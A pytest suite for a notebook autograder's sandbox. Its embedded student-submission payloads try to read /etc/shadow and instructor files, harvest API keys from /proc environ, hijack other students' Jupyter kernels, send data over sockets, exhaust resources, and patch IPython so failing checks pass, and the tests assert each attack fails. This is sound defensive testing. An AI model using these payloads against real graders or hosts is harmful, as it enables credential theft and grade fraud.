"""Submissions that attack the grader (issue 16), graded in one batch with ``--jobs 2``.

Each attacker defines the toy exercise's ``add`` so that it raises ``ValueError("REPORT {...}")``
with what the attack achieved: the check's message carries the report into ``grades.csv``, the
channel a real attacker would use to exfiltrate what it read. Every test then asserts that the
attack scored nothing it should not (``add`` is worth 2 points only when the attack succeeded),
that no secret reached the grades or the feedback pages, and that the batch and the machine are
intact: the honest solution still scores full marks in the same batch.

Needs bubblewrap (skips without it; CI installs it).
"""

from __future__ import annotations

import csv
import json
import os
import secrets
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from argnb import csvsafe
from argnb.exercises import grade as g
from tests.exercises.conftest import write_nb

pytestmark = pytest.mark.notebook

SECRET = "sk-canary-4f1c9e"  # an instructor's API key
FILE_SECRET = "instructor-notes-7d2b"  # the content of a file of the instructor's
VICTIM_SLEEP = 8  # seconds the victim's kernel stays up while the thief looks for it


def attacker(code: str, *, honest_add: bool = False) -> list[str]:
    """A toy submission: ``code`` fills ``report`` (a dict) and may set ``solved``; ``add`` then
    is the real one if ``solved`` (the attack worked) or ``honest_add``, else raises the report."""
    body = (
        "import json, os, sys\nreport = {}\nsolved = False\n"
        f"{code}\n"
        "def add(a, b):\n"
        f"    if solved or {honest_add!r}:\n"
        "        return a + b\n"
        "    raise ValueError('REPORT ' + json.dumps(report, default=str)[:400])\n"
    )
    return [
        "%load_ext argnb.exercises",
        body,
        "### CHECK add: 2 points\nassert add(1, 2) == 3",
        "### CHECK data: 1 point\nassert open('../data/x.txt').read() == 'ok'",
    ]


STEAL_SOLUTION = """
import glob, argnb
from pathlib import Path
found = []
starts = [Path(argnb.__file__).resolve(), Path.cwd(), Path('{solution}')]
for start in starts:
    for parent in [start, *start.parents][:-1]:  # every folder up to (not) the root
        found += glob.glob(str(parent / '**' / 'solutions' / '*.ipynb'), recursive=True)
        if len(found) > 0:
            break
for known in ['{solution}', '{real_solution}']:
    if os.path.exists(known):
        found.append(known)
report['found'] = sorted(set(found))
for path in found:
    try:
        cells = json.load(open(path))['cells']
        for cell in cells:
            if cell['cell_type'] == 'code' and 'CHECK' not in ''.join(cell['source']):
                exec(''.join(l for l in cell['source'] if not l.startswith('%')))
        solved = add(-1, 1) == 0
    except Exception as exc:
        report.setdefault('errors', []).append(repr(exc))
"""

READ_FILES = """
for name, path in [('shadow', '/etc/shadow'), ('instructor', '{canary}'),
                   ('bashrc', os.path.expanduser('~root/.bashrc')), ('passwd', '/etc/passwd')]:
    try:
        report[name] = open(path).read()[:200]
    except Exception as exc:
        report[name] = type(exc).__name__
"""

STEAL_KERNEL = """
import glob, time
from pathlib import Path
from ipykernel import get_connection_file
mine = Path(get_connection_file()).resolve()
others, changed = set(), False
deadline = time.time() + {wait}
while time.time() < deadline and not changed:
    for pattern in ['/tmp/argnb-grade-*/**/kernel*.json', '/tmp/**/kernel*.json',
                    '/proc/*/cwd/**/kernel*.json']:
        for f in glob.glob(pattern, recursive=True):
            if Path(f).resolve() != mine:
                others.add(f)
    for f in sorted(others):
        try:
            from jupyter_client import BlockingKernelClient
            kc = BlockingKernelClient(connection_file=f)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute_interactive('def add(a, b):\\n    return 0', timeout=5)
            changed = True
        except Exception as exc:
            report.setdefault('errors', []).append(repr(exc)[:80])
    time.sleep(0.5)
report['others'] = sorted(others)
report['changed'] = changed
"""

VICTIM = "import time\ntime.sleep({wait})"

WRITE_FILES = """
for name, path in [('submission', '{victim_nb}'), ('grades', '{old_grades}')]:
    try:
        with open(path, 'w') as f:
            f.write('owned')
        report[name] = 'written'
    except Exception as exc:
        report[name] = type(exc).__name__
try:
    open('/tmp/planted', 'w').write('x')
    report['tmp'] = 'written'
except Exception as exc:
    report['tmp'] = type(exc).__name__
"""

NETWORK = """
import _socket, subprocess
def tcp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('127.0.0.1', {port}))
    s.sendall(b'stolen')
    return 'connected'
def unix():
    s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect('{unix_path}')
    s.sendall(b'stolen')
    return 'connected'
def outside():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('1.1.1.1', 53))
    return 'connected'
for name, fn in [('tcp', tcp), ('unix', unix), ('outside', outside)]:
    try:
        report[name] = fn()
    except Exception as exc:
        report[name] = type(exc).__name__
code = "import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=3); s.sendall(b'sub')"
done = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)
report['subprocess'] = 'connected' if done.returncode == 0 else done.stderr.strip().splitlines()[-1][:60]
"""

ENVIRON = """
report['env'] = {{k: v for k, v in os.environ.items() if 'KEY' in k or 'sk-' in v}}
seen = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            seen.append(open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace'))
        except Exception as exc:
            pass
report['pids'] = len(seen)
report['proc'] = [e for e in seen if 'sk-' in e or 'KEY' in e]
"""

MEMORY = """
import time
t0 = time.time()
try:
    block = bytearray(4 * 2**30)
    block[::4096] = b'x' * len(block[::4096])
    report['allocated'] = True
except MemoryError:
    report['allocated'] = False
report['seconds'] = round(time.time() - t0, 1)
"""

PROCESSES = """
import subprocess
started = []
try:
    for _ in range(300):
        started.append(subprocess.Popen(['sleep', '{marker}']))
except Exception as exc:
    report['stopped'] = type(exc).__name__
report['started'] = len(started)
"""

BIG_FILE = """
try:
    with open('big.bin', 'wb') as f:
        for _ in range(300):
            f.write(bytes(2**20))
except OSError as exc:
    report['stopped'] = type(exc).__name__
report['size_mb'] = os.path.getsize('big.bin') // 2**20
os.remove('big.bin')
"""

SILENCE = {
    # each leaves `add` wrong (hidden test: negative numbers) and tries to make the failure vanish
    "showtraceback": "%unload_ext argnb.exercises\n"
    "get_ipython().showtraceback = lambda *a, **k: None\n"
    "get_ipython()._showtraceback = lambda *a, **k: None",
    "custom_exc": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "class_patch": "type(get_ipython()).showtraceback = lambda *a, **k: None\n"
    "type(get_ipython())._showtraceback = lambda *a, **k: None",
    "transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "excepthook": "import sys\nsys.excepthook = lambda *a: None\n"
    "get_ipython().events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))",
    "builtins": "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})",
    "print_pass": "print('passed')\nget_ipython().showtraceback = lambda *a, **k: print('ok')",
}


class Listener:
    """A TCP listener on the host's loopback and a Unix socket under the host's /tmp: what a
    sandboxed kernel must not reach. ``hits`` counts connections."""

    def __init__(self, unix_path: Path) -> None:
        self.hits: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.unix_path = unix_path
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(unix_path))
        self.unix.listen()
        for s, name in ((self.tcp, "tcp"), (self.unix, "unix")):
            threading.Thread(target=self._accept, args=(s, name), daemon=True).start()

    def _accept(self, s: socket.socket, name: str) -> None:
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            self.hits.append(name)
            conn.close()

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade every attack (and the honest solution) once, with two jobs; the evidence."""
    from argnb.exercises.release import release
    from argnb.exercises.sandbox import unavailable
    from tests.exercises.conftest import TOY_SOLUTION

    why = unavailable()
    if why:
        pytest.skip(why)
    # the scratch folders this batch makes (other processes on the machine may grade too)
    from argnb.exercises import sandbox as sb

    made: list[Path] = []
    create = sb.Scratch.create

    def recorded() -> sb.Scratch:
        scratch = create()
        made.append(scratch.root)
        return scratch

    tmp = tmp_path_factory.mktemp("attacks")
    root = tmp / "exercises"
    solution = write_nb(root / "99_toy" / "solutions" / "add.ipynb", TOY_SOLUTION)
    (root / "99_toy" / "data").mkdir()
    (root / "99_toy" / "data" / "x.txt").write_text("ok")
    release(root)
    real_solution = Path(__file__).resolve().parents[2] / "exercises/02_dialectic/solutions"
    canary = tmp / "instructor" / "notes.txt"
    canary.parent.mkdir()
    canary.write_text(FILE_SECRET)
    old_grades = tmp / "old" / "grades.csv"
    old_grades.parent.mkdir()
    old_grades.write_text("student,points\nana,3\n")
    listener = Listener(Path(str(tmp / "host.sock")))
    subs = tmp / "subs"
    victim_nb = subs / "kernel_victim" / "add.ipynb"
    marker = str(900000 + secrets.randbelow(99999))  # this run's own sleeps
    fill = {
        "solution": str(solution),
        "real_solution": str(real_solution / "ex2_grounded.ipynb"),
        "canary": str(canary),
        "wait": VICTIM_SLEEP,
        "victim_nb": str(subs / "zz_last" / "add.ipynb"),
        "old_grades": str(old_grades),
        "port": listener.port,
        "unix_path": str(listener.unix_path),
        "marker": marker,
    }
    cases = {
        "correct": attacker("", honest_add=True),
        "steal_solution": attacker(STEAL_SOLUTION.format(**fill)),
        "read_files": attacker(READ_FILES.format(**fill)),
        "kernel_thief": attacker(STEAL_KERNEL.format(**fill)),
        "write_files": attacker(WRITE_FILES.format(**fill)),
        "network": attacker(NETWORK.format(**fill)),
        "environ": attacker(ENVIRON.format(**fill)),
        "memory": attacker(MEMORY.format(**fill)),
        "processes": attacker(PROCESSES.format(**fill)),
        "big_file": attacker(BIG_FILE),
        "zz_last": attacker("", honest_add=True),
    }
    for who, cells in cases.items():
        write_nb(subs / who / "add.ipynb", cells)
    victim = attacker(VICTIM.format(**fill), honest_add=True)
    write_nb(victim_nb, victim)
    for name, code in SILENCE.items():
        cells = attacker("", honest_add=False)
        # a wrong add (fails the hidden test) and the one-liner, in a cell of its own
        cells[1] = "def add(a, b):\n    return abs(a) + abs(b)"
        cells.insert(2, code)
        write_nb(subs / f"silence_{name}" / "add.ipynb", cells)
    write_nb(subs / "=HYPERLINK(1)" / "add.ipynb", attacker("", honest_add=True))
    before = {p: p.read_bytes() for p in subs.rglob("*.ipynb")}
    old = os.environ.get("OPENAI_API_KEY")
    os.environ["OPENAI_API_KEY"] = SECRET
    sb.Scratch.create = recorded  # type: ignore[method-assign]
    try:
        grades = g.grade(subs, root / "99_toy", timeout=40, jobs=2)
    finally:
        sb.Scratch.create = create  # type: ignore[method-assign]
        if old is None:
            del os.environ["OPENAI_API_KEY"]
        else:
            os.environ["OPENAI_API_KEY"] = old
        listener.close()
    out = tmp / "grades.csv"
    feedback = g.write(grades, out)
    texts = [out.read_text(encoding="utf-8")]
    texts += [p.read_text(encoding="utf-8") for p in feedback.glob("*.html")]
    leftovers = subprocess.run(
        ["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True, check=False
    ).stdout.split()
    return {
        "scratch_made": made,
        "submissions": len([p for p in subs.iterdir() if p.is_dir()]),
        "scratch_left": {p for p in made if p.exists()},
        "grades": grades,
        "rows": {(r.student, r.check): r for r in grades.rows},
        "out": out,
        "published": "\n".join(texts),
        "listener": listener,
        "before": before,
        "canary": canary,
        "old_grades": old_grades,
        "leftovers": leftovers,
    }


def report(batch, student: str) -> dict:
    row = batch["rows"][student, "add"]
    assert row.points == 0 and "REPORT " in row.message, (student, row.message)
    return json.loads(row.message.split("REPORT ", 1)[1])


def points(batch, student: str) -> float:
    return sum(r.points for r in batch["grades"].rows if r.student == student)


def test_the_honest_solution_keeps_full_marks_in_the_same_batch(batch):
    assert points(batch, "correct") == 3 and points(batch, "zz_last") == 3
    assert points(batch, "kernel_victim") == 3
    assert all(o.status == "ok" for o in batch["grades"].outcomes if o.student != "memory")


def test_the_solution_cannot_be_read(batch):
    got = report(batch, "steal_solution")
    assert got["found"] == [] and points(batch, "steal_solution") == 1


def test_no_system_or_instructor_file_can_be_read(batch):
    got = report(batch, "read_files")
    assert got["shadow"] in ("FileNotFoundError", "PermissionError")
    assert got["instructor"] == "FileNotFoundError"
    assert got["bashrc"] in ("FileNotFoundError", "PermissionError")
    assert got["passwd"] == "FileNotFoundError"  # no /etc at all
    assert FILE_SECRET not in batch["published"] and "root:" not in batch["published"]


def test_no_student_reaches_another_students_kernel(batch):
    got = report(batch, "kernel_thief")
    assert got["others"] == [] and got["changed"] is False
    assert points(batch, "kernel_victim") == 3


def test_no_other_submission_or_earlier_grades_file_can_be_written(batch):
    got = report(batch, "write_files")
    assert got["submission"] != "written" and got["grades"] != "written"
    assert got["tmp"] == "written"  # its own private /tmp, gone with the sandbox
    for path, data in batch["before"].items():
        assert path.read_bytes() == data, path
    assert batch["old_grades"].read_text() == "student,points\nana,3\n"
    assert not Path("/tmp/planted").exists()


def test_no_host_socket_and_no_network(batch):
    got = report(batch, "network")
    assert got["tcp"] != "connected" and got["unix"] != "connected"
    assert got["outside"] != "connected" and got["subprocess"] != "connected"
    assert batch["listener"].hits == []


def test_no_instructor_variable_directly_or_through_proc(batch):
    got = report(batch, "environ")
    assert got["env"] == {} and got["proc"] == []
    assert got["pids"] < 10  # its own PID namespace: the grader's processes are not there
    assert SECRET not in batch["published"]


def test_memory_is_limited_and_costs_only_the_attacker(batch):
    got = report(batch, "memory")
    assert got["allocated"] is False and got["seconds"] < 10


def test_process_count_is_limited_and_nothing_is_left_running(batch):
    got = report(batch, "processes")
    assert got["started"] < 300 and got["stopped"] in ("BlockingIOError", "OSError")
    assert batch["leftovers"] == []


def test_file_size_is_limited(batch):
    got = report(batch, "big_file")
    assert got["size_mb"] <= 256 and got["stopped"] == "OSError"


@pytest.mark.parametrize("name", sorted(SILENCE))
def test_one_liners_do_not_silence_a_failing_check(batch, name):
    row = batch["rows"][f"silence_{name}", "add"]
    assert row.points == 0 and not row.passed, row
    # the data check still counts, unless the trick broke every later cell (a transformer that
    # replaces each cell, the grader's own included: it fails closed)
    assert points(batch, f"silence_{name}") == (0 if name == "transformer" else 1)
    (outcome,) = [o for o in batch["grades"].outcomes if o.student == f"silence_{name}"]
    assert outcome.flags and "review by hand" in outcome.note  # and the instructor is told


def test_honest_notebooks_are_not_flagged(batch):
    assert [o.flags for o in batch["grades"].outcomes if o.student in ("correct", "zz_last")] == [
        [],
        [],
    ]


def test_the_machine_is_left_clean(batch):
    assert len(batch["scratch_made"]) >= batch["submissions"]  # one per submission, at least
    assert batch["scratch_left"] == set()
    assert batch["canary"].read_text() == FILE_SECRET


def test_student_text_cannot_be_a_formula_in_grades_csv(batch):
    with batch["out"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    names = {r["student"] for r in rows}
    assert "'=HYPERLINK(1)" in names and "=HYPERLINK(1)" not in names
    assert {csvsafe.restore(n) for n in names} >= {"=HYPERLINK(1)", "correct"}
    for r in rows:
        for value in r.values():
            assert not value.startswith(csvsafe.TRIGGERS), value


#: one-liners against a real exercise (02_dialectic/ex2_grounded): its checks call a check
#: function and compare with a reference solver; each trick leaves the answers wrong
REAL_TRICKS = {
    "redefine_check": "check_grounded = lambda *a, **k: 'right'",
    "patch_checks_module": "import argnb.exercises.checks.dialectic as c\n"
    "c.check_grounded = lambda *a, **k: None",
    "patch_reference": "import argnb.dialectic as d\nd.grounded_extension = lambda a, b: set()",
    "patch_stdlib": "import random\n"
    "class R:\n    def __init__(self, seed): pass\n    def randint(self, a, b): return a\n"
    "    def random(self): return 1.0\n"
    "random.Random = R",
    "shadow_builtin": "def set(*a):\n    return grounded_extension(FRAMEWORK_ARGUMENTS, [])",
    "mutate_data": "FRAMEWORK_DEFEATS.clear()\nFRAMEWORK_ARGUMENTS.clear()",
}


def test_tricks_against_a_real_check_score_nothing(grounded_exercise, tmp_path, bwrap):
    import nbformat

    folder = grounded_exercise / "02_dialectic"
    subs = tmp_path / "subs"
    solution = nbformat.read(folder / "solutions" / "ex2_grounded.ipynb", as_version=4)
    student = nbformat.read(folder / "student" / "ex2_grounded.ipynb", as_version=4)
    (subs / "correct").mkdir(parents=True)
    nbformat.write(solution, subs / "correct" / "ex2_grounded.ipynb")
    for name, trick in REAL_TRICKS.items():
        nb = nbformat.read(folder / "student" / "ex2_grounded.ipynb", as_version=4)
        for cell in nb.cells:  # a wrong function: nothing is ever accepted
            if cell.source.startswith("def grounded_extension"):
                cell.source = "def grounded_extension(arguments, defeats):\n    return set()"
        nb.cells.append(nbformat.v4.new_code_cell(trick))
        (subs / name).mkdir()
        nbformat.write(nb, subs / name / "ex2_grounded.ipynb")
    assert len(student.cells) == len(solution.cells)
    grades = g.grade(subs, folder, timeout=60, jobs=2)
    got = {
        s: sum(r.points for r in grades.rows if r.student == s) for s in ["correct", *REAL_TRICKS]
    }
    assert got == {"correct": 5, **{name: 0 for name in REAL_TRICKS}}, grades.rows


def test_cpu_time_is_limited_and_the_rest_still_counts(tmp_path, bwrap):
    """A cell that burns CPU dies at the limit (SIGXCPU); the grader skips it and runs again."""
    from argnb.exercises.release import release
    from argnb.exercises.sandbox import Limits
    from tests.exercises.conftest import TOY_SOLUTION, toy_student

    root = tmp_path / "exercises"
    write_nb(root / "99_toy" / "solutions" / "add.ipynb", TOY_SOLUTION)
    (root / "99_toy" / "data").mkdir()
    (root / "99_toy" / "data" / "x.txt").write_text("ok")
    release(root)
    spin = "import time\nt0 = time.time()\nwhile time.time() - t0 < 60:\n    pass"
    write_nb(tmp_path / "subs" / "spinner" / "add.ipynb", toy_student("return a + b", before=spin))
    limits = Limits(cpu_seconds=4)
    grades = g.grade(tmp_path / "subs", root / "99_toy", timeout=50, limits=limits)
    (outcome,) = grades.outcomes
    assert outcome.status == "crashed" and "crashed Python" in outcome.note, outcome
    assert sum(r.points for r in outcome.rows) == 3
    assert outcome.seconds < 40  # the limit, not the 50 s time-out, stopped the cell
